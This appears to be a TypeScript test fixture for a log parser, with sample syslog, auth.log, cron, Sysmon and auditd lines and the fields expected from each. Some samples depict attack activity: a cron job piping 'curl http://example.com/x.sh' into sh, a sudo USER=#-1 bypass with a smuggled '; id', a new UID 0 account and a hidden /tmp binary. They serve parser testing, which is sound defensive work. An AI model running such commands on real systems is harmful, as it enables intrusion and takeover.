import type { LogFormatFixture } from '../../../tests/fixture.ts';

const sysmon =
  '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><TimeCreated SystemTime="2026-11-23T16:00:01.123456000Z"/><Computer>box</Computer></System><EventData><Data Name="ProcessId">4242</Data><Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl http://example.com/?a=1&amp;b=2</Data><Data Name="ParentImage">/usr/sbin/apache2</Data></EventData></Event>';

export const fixture: LogFormatFixture = {
  fires: [
    {
      name: 'a web server’s line, whose own time names its zone',
      input:
        '<190>Nov 23 16:31:56 web1 nginx: 192.0.2.10 - - [23/Nov/2026:17:31:56 +0100] "GET /x?y HTTP/1.1" 404 48 "-" "Browser/1"\n',
      expect: [
        {
          source: { category: 'webserver', service: 'nginx' },
          time: '2026-11-23T16:31:56.000Z',
          machine: 'web1',
          fields: { program: 'nginx', 'c-ip': '192.0.2.10', 'cs-uri-stem': '/x', 'sc-status': 404 },
        },
      ],
    },
    {
      name: 'auth.log of Debian, with a line that stands for five',
      file: 'var/log/auth.log',
      input: [
        'Nov  3 16:00:01 box sshd[7]: Accepted publickey for root from 192.0.2.10 port 50022 ssh2: ED25519 SHA256:abc',
        'Nov  3 16:00:02 box sshd[8]: message repeated 5 times: [ Failed password for root from 192.0.2.11 port 22 ssh2]',
        'Nov  3 16:00:03 box sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/bin/sh -c ls ; id',
        'Nov  3 16:00:04 box useradd[9]: new user: name=mallory, UID=0, GID=0',
        'Nov  3 16:00:05 box portal[3]: something else',
      ].join('\n'),
      expect: [
        {
          source: { product: 'linux', service: 'sshd' },
          time: '2026-11-03T16:00:01.000Z',
          machine: 'box',
          fields: {
            program: 'sshd',
            pid: 7,
            message: 'Accepted publickey for root from 192.0.2.10 port 50022 ssh2: ED25519 SHA256:abc',
          },
        },
        { fields: { message: 'Failed password for root from 192.0.2.11 port 22 ssh2', repeated: 5 } },
        {
          source: { product: 'linux', service: 'sudo' },
          fields: { USER: '#-1', PWD: '/home/alice', SUDO_USER: 'alice', COMMAND: '/bin/sh -c ls ; id' },
        },
        { source: { product: 'linux', service: 'auth' }, fields: { program: 'useradd' } },
        { source: { product: 'linux', service: 'auth' } },
      ],
    },
    {
      name: 'RFC 5424 with structured data',
      input:
        '<86>1 2026-11-23T17:00:01.5+01:00 box sshd 7 - [a@1 b="\\]c"] \ufeffConnection closed\n<30>1 - - app - - - no time\n',
      expect: [
        {
          source: { product: 'linux', service: 'sshd' },
          time: '2026-11-23T16:00:01.500Z',
          machine: 'box',
          fields: { pid: 7, facility: 'authpriv', message: 'Connection closed' },
        },
        { fields: { program: 'app', facility: 'daemon', message: 'no time' } },
      ],
    },
    {
      name: 'rsyslog’s ISO form, and what cron ran',
      file: 'cron',
      input: [
        '2026-11-23T16:00:01.123456+00:00 box CRON[99]: (root) CMD (curl -s http://example.com/x.sh | sh)',
        '2026-11-23T16:00:02.123456+00:00 box CROND[99]: (www) CMD ([100] /tmp/.x)',
        '2026-11-23T16:00:02.123456+00:00 box systemd[1]: Started x.service.',
      ].join('\r\n'),
      expect: [
        {
          source: { product: 'linux', service: 'cron' },
          fields: { User: 'root', CommandLine: 'curl -s http://example.com/x.sh | sh' },
        },
        { fields: { program: 'CROND' } },
        { source: { product: 'linux', service: 'cron' }, fields: { program: 'systemd' } },
      ],
    },
    {
      name: 'Sysmon for Linux',
      input: `Nov 23 16:00:01 box sysmon: ${sysmon}\n`,
      expect: [
        {
          source: { product: 'linux', category: 'process_creation', service: 'sysmon' },
          fields: {
            EventID: 1,
            Image: '/usr/bin/curl',
            CommandLine: 'curl http://example.com/?a=1&b=2',
            ParentImage: '/usr/sbin/apache2',
          },
        },
      ],
    },
    {
      name: 'auditd through syslog, the kernel, and a line without a program',
      input: [
        'Nov 23 16:00:01 box audispd: node=box type=USER_LOGIN msg=audit(1763913600.123:456): pid=1 uid=0 msg=\'op=login acct="root" res=success\'',
        'Nov 23 16:00:02 box kernel: [   12.345678] eth0: link up',
        'Nov 23 16:00:02 box last message repeated 2 times',
      ].join('\n'),
      expect: [
        {
          source: { product: 'linux', service: 'auditd' },
          fields: { type: 'USER_LOGIN', acct: 'root', res: 'success' },
        },
        { source: { product: 'linux', service: 'syslog' }, fields: { program: 'kernel' } },
        { fields: { message: 'last message repeated 2 times' } },
      ],
    },
  ],
  silent: [
    {
      name: 'a build service’s log',
      input: '2026-11-23T10:00:00.1234567Z Error: make: failed\n2026-11-23T10:00:00.1234567Z x y: z\n',
    },
    { name: 'a container’s log', input: '2026-11-23T10:00:00.000000000Z stdout F a: b\n' },
    {
      name: 'a program’s own log',
      input: '2026-11-23T10:00:00Z INFO server: listening\n2026-11-23T10:00:01Z WARN pool: gone\n',
    },
    { name: 'a list of dates', input: '2026-11-23,1,2,3\n2026-11-24,1,2,3\n' },
    { name: 'a mail', input: 'Nov 23 and after it: a text\nMore of it.\n' },
    { name: 'markup', input: '<30><a>b</a></30>\n' },
    { name: 'nothing', input: '' },
  ],
};
